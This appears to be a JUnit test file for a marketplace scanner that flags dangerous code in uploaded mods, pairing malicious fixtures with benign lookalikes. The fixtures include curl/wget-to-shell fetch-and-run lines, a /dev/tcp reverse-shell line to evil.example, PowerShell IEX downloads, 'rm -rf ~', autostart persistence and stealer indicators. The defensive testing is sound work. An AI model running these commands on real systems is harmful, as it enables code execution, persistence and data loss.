package market.api.scanning.kinds;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Objects;
import java.util.Random;
import java.util.stream.Stream;
import market.api.scanning.FindingCode;
import market.api.scanning.Severity;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Every check beside its innocent twin, and what no check may be made to do. */
class KindsTest {
  private static final String HIDDEN =
      Base64.getEncoder().encodeToString(random(1200)).replace('\n', 'A');

  static Stream<Arguments> harmful() {
    return Stream.of(
        hit("a.lua", "local x = 1\nos.execute('rm -rf ~')", FindingCode.RUNS_PROGRAMS),
        hit("a.lua", "os['execute']('ls')", FindingCode.RUNS_PROGRAMS),
        hit("a.lua", "local run = io.popen", FindingCode.RUNS_PROGRAMS),
        hit("a.lua", "package.loadlib('x.so', '*')", FindingCode.NATIVE_CODE),
        hit("a.lua", "loadstring(minetest.decode_base64(t))()", FindingCode.LOADS_CODE),
        hit("a.lua", "local c = dec.b64decode(t)\nload(c)()", FindingCode.LOADS_CODE),
        hit("a.lua", "load('" + HIDDEN + "')()", FindingCode.LOADS_CODE),
        hit(
            "a.lua",
            "local h = minetest.request_http_api()\nh.fetch({}, function(r) load(r.data)() end)",
            FindingCode.FETCHES_CODE),
        hit("a.lua", "os['exe' .. 'cute']('ls')", FindingCode.OBFUSCATED),
        hit("a.lua", "\u001bLuaSaaaa", FindingCode.OBFUSCATED),
        hit("a.lua", alike(), FindingCode.OBFUSCATED),
        hit("a.sh", "curl -s https://x.example/i | sudo bash", FindingCode.FETCHES_CODE),
        hit("a.sh", "bash -c \"$(curl -fsSL https://x.example)\"", FindingCode.FETCHES_CODE),
        hit("run", "#!/bin/sh\nwget -qO- x.example|sh\n", FindingCode.FETCHES_CODE),
        hit("a.sh", "echo aGk= | base64 -d | sh", FindingCode.LOADS_CODE),
        hit("a.sh", "echo evil >> ~/.bashrc", FindingCode.AUTOSTART),
        hit("a.sh", "(crontab -l; echo '* * * * * x') | crontab -", FindingCode.AUTOSTART),
        hit("a.sh", "exec 3<>/dev/tcp/evil.example/4444", FindingCode.LITERAL_ADDRESS),
        hit("a.ps1", "iwr https://x.example | iex", FindingCode.FETCHES_CODE),
        hit(
            "a.bat",
            "powershell IEX (New-Object Net.WebClient).DownloadString('http://x')",
            FindingCode.FETCHES_CODE),
        hit("a.bat", "certutil -urlcache -f http://x y.exe", FindingCode.FETCHES_CODE),
        hit(
            "a.bat",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x",
            FindingCode.AUTOSTART),
        hit("a.py", "exec(base64.b64decode('aGk='))", FindingCode.LOADS_CODE),
        hit("a.py", "exec(urllib.request.urlopen(u).read())", FindingCode.FETCHES_CODE),
        hit("a.js", "eval(\n atob('aGk='))", FindingCode.LOADS_CODE),
        hit("a.js", "fetch(u).then(r => r.text()).then(eval)", FindingCode.FETCHES_CODE),
        hit("a.js", "eval(function(p,a,c,k,e,d){})", FindingCode.OBFUSCATED),
        hit("a.js", "require('child_process').exec('x')", FindingCode.RUNS_PROGRAMS));
  }

  static Stream<Arguments> innocent() {
    return Stream.of(
        miss("a.lua", "-- os.execute('rm') is not used\nlocal x = 'io.popen'"),
        miss("a.lua", "--[[ os.execute()\n io.popen() ]]\nreturn {}"),
        miss("a.lua", "local s = [==[ os.execute ]] ]==]"),
        miss("a.lua", "job:execute() task.execute() self.io = popen"),
        miss("a.lua", "function M.load(s) return s end\nM.load(data)"),
        miss("a.lua", "local f = loadstring('return 1')"),
        miss("a.lua", "local d = minetest.deserialize(load(text))"),
        miss("a.lua", "local env = minetest.request_insecure_environment()"),
        miss("a.lua", "local http = minetest.request_http_api()\nhttp.fetch({url=u}, print)"),
        miss("a.sh", "# curl https://x.example | sh\necho done\n"),
        miss("a.sh", "curl -o mod.zip https://x.example/mod.zip\nunzip mod.zip | cat\n"),
        miss("a.sh", "cat ~/.bashrc"),
        miss("a.ps1", "# iwr x | iex\nInvoke-WebRequest x -OutFile mod.zip"),
        miss("a.bat", "REM reg add HKCU\\CurrentVersion\\Run\r\nstart minetest.exe"),
        miss("a.py", "# exec(base64.b64decode(x))\nprint(base64.b64decode(x))"),
        miss("a.py", "\"\"\"exec(base64.b64decode(x))\"\"\"\nimport json"),
        miss("a.js", "// eval(atob(x))\nconst t = atob(x);"),
        miss("a.js", "/* eval(atob(x)) */ JSON.parse('{}')"),
        miss("illi.txt", "IlIlIl"));
  }

  @ParameterizedTest(name = "{0} {1}")
  @MethodSource
  void harmful(String name, String text, FindingCode code) {
    assertThat(check(name, text))
        .filteredOn(KindsTest::alarms)
        .extracting(Found::code)
        .contains(code);
  }

  @ParameterizedTest(name = "{0} {1}")
  @MethodSource
  void innocent(String name, String text) {
    assertThat(check(name, text)).noneMatch(KindsTest::alarms);
  }

  @Test
  void aLineIsTold() {
    assertThat(check("a.lua", "--[[\n\n]]\nlocal s = 'a\\\nb'\nos.execute('x')"))
        .singleElement()
        .extracting(Found::line)
        .isEqualTo(6);
  }

  @Test
  void classesAreToldByWhatTheyName() throws IOException {
    assertThat(codes(craft("java/lang/Runtime.exec"))).contains(FindingCode.RUNS_PROGRAMS);
    assertThat(codes(craft("java/lang/ProcessBuilder.start"))).contains(FindingCode.RUNS_PROGRAMS);
    assertThat(codes(craft("java/lang/System.load"))).contains(FindingCode.NATIVE_CODE);
    assertThat(codes(craft("x/Loader.defineClass", "java/util/Base64.getDecoder")))
        .contains(FindingCode.LOADS_CODE);
    assertThat(codes(craft("java/net/URL.openStream", "java/net/URLClassLoader.newInstance")))
        .contains(FindingCode.FETCHES_CODE);
    assertThat(codes(craft("java/net/Socket.connect", "'185.12.13.14")))
        .contains(FindingCode.LITERAL_ADDRESS);
    assertThat(codes(craft("'https://discord.com/api/webhooks/1/x", "'\\Local Storage\\leveldb")))
        .contains(FindingCode.STEALER);
  }

  @Test
  void whatLibrariesDoIsOnlyNoted() throws IOException {
    for (var usual :
        List.of(
            craft("x/Loader.defineClass"),
            craft("java/net/URLClassLoader.newInstance"),
            craft("sun/misc/Unsafe.getInt"),
            craft("java/lang/System.loadLibrary"),
            craft("java/net/Socket.connect", "'127.0.0.1", "'192.168.0.1"),
            craft("java/lang/String.length", "'185.12.13.14"),
            craft("'Runtime.exec", "'java/lang/ProcessBuilder"))) {
      assertThat(FileKind.JAVA_CLASS.check(usual, usual.length, false))
          .noneMatch(KindsTest::alarms);
    }
  }

  @Test
  void namesThatLieAreTold() {
    assertThat(NameCheck.of("a/readme.txt.exe"))
        .extracting(Found::code)
        .containsExactly(FindingCode.DECEPTIVE_NAME);
    assertThat(NameCheck.of("AutoRun.inf"))
        .extracting(Found::code)
        .containsExactly(FindingCode.AUTOSTART);
    assertThat(NameCheck.of("x/start.lnk"))
        .extracting(Found::code)
        .containsExactly(FindingCode.EXECUTABLE);
    assertThat(NameCheck.of("x/IlIIlIl.class"))
        .extracting(Found::code)
        .containsExactly(FindingCode.OBFUSCATED);
    for (var fine : List.of("readme.txt", "a.png.import", "mod.tar.gz", "I.class", "init.lua")) {
      assertThat(NameCheck.of(fine)).isEmpty();
    }
  }

  @Test
  void noTextMakesACheckFailOrTakeLong() throws IOException {
    var random = new Random(7);
    var whole = craft("java/lang/Runtime.exec", "'x", "java/net/Socket.connect");
    for (int i = 0; i < 2000; i++) {
      var hostile = whole.clone();
      for (int k = 0; k < 6; k++) {
        hostile[4 + random.nextInt(hostile.length - 4)] = (byte) random.nextInt();
      }
      int length = random.nextInt(hostile.length);
      assertThatCode(() -> FileKind.JAVA_CLASS.check(hostile, length, false))
          .doesNotThrowAnyException();
    }
    var pieces =
        List.of(
            "load(",
            "--[[",
            "[==[",
            "\"",
            "'",
            "os.",
            "\\",
            "..",
            "]]",
            "curl ",
            "|sh",
            "/*",
            "eval(",
            "`",
            "<#",
            "\"\"\"",
            "\n",
            "iex ",
            "=",
            "{",
            "function ",
            "lIlIlIlI",
            "\0");
    for (int i = 0; i < 150; i++) {
      var text = new StringBuilder();
      for (int k = 0; k < 200; k++) {
        text.append(pieces.get(random.nextInt(pieces.size())));
      }
      for (var kind : FileKind.values()) {
        var bytes = text.toString().getBytes(ISO_8859_1);
        assertThatCode(() -> kind.check(bytes, bytes.length, false)).doesNotThrowAnyException();
      }
    }
    for (var piece : pieces) {
      var bytes = piece.repeat((1 << 17) / piece.length()).getBytes(ISO_8859_1);
      for (var kind : FileKind.values()) {
        assertThat(took(() -> kind.check(bytes, bytes.length, false)))
            .as("%s of %s", kind, piece)
            .isLessThan(Duration.ofSeconds(5));
      }
    }
  }

  private static Duration took(Runnable work) {
    long start = System.nanoTime();
    work.run();
    return Duration.ofNanos(System.nanoTime() - start);
  }

  private static boolean alarms(Found found) {
    return found.severity() != Severity.NOTE;
  }

  private static List<Found> check(String name, String text) {
    var bytes = text.getBytes(ISO_8859_1);
    var kind = FileKind.of(name, bytes, bytes.length);
    return kind == null
        ? List.of()
        : Objects.requireNonNull(kind).check(bytes, bytes.length, false);
  }

  private static List<FindingCode> codes(byte[] bytes) {
    return FileKind.JAVA_CLASS.check(bytes, bytes.length, false).stream()
        .filter(KindsTest::alarms)
        .map(Found::code)
        .toList();
  }

  /** A class whose pool names these members ({@code owner.name}) and texts ({@code 'text}). */
  private static byte[] craft(String... names) throws IOException {
    var pool = new ByteArrayOutputStream();
    var out = new DataOutputStream(pool);
    int next = 1;
    for (var name : names) {
      if (name.startsWith("'")) {
        out.writeByte(1);
        out.writeUTF(name.substring(1));
        out.writeByte(8);
        out.writeShort(next);
        next += 2;
        continue;
      }
      int dot = name.lastIndexOf('.');
      out.writeByte(1);
      out.writeUTF(name.substring(0, dot));
      out.writeByte(7);
      out.writeShort(next);
      out.writeByte(1);
      out.writeUTF(name.substring(dot + 1));
      out.writeByte(12);
      out.writeShort(next + 2);
      out.writeShort(next + 2);
      out.writeByte(10);
      out.writeShort(next + 1);
      out.writeShort(next + 3);
      next += 5;
    }
    var whole = new ByteArrayOutputStream();
    var head = new DataOutputStream(whole);
    head.writeInt(0xCAFEBABE);
    head.writeInt(69);
    head.writeShort(next);
    pool.writeTo(head);
    return whole.toByteArray();
  }

  private static String alike() {
    var text = new StringBuilder();
    for (int i = 0; i < 40; i++) {
      text.append("local ");
      for (int k = 0; k < 8; k++) {
        text.append(((i >> k) & 1) == 0 ? 'l' : 'I');
      }
      text.append(" = 1\n");
    }
    return text.toString();
  }

  private static byte[] random(int length) {
    var bytes = new byte[length];
    new Random(1).nextBytes(bytes);
    return bytes;
  }

  private static Arguments hit(String name, String text, FindingCode code) {
    return Arguments.of(name, text, code);
  }

  private static Arguments miss(String name, String text) {
    return Arguments.of(name, text);
  }
}
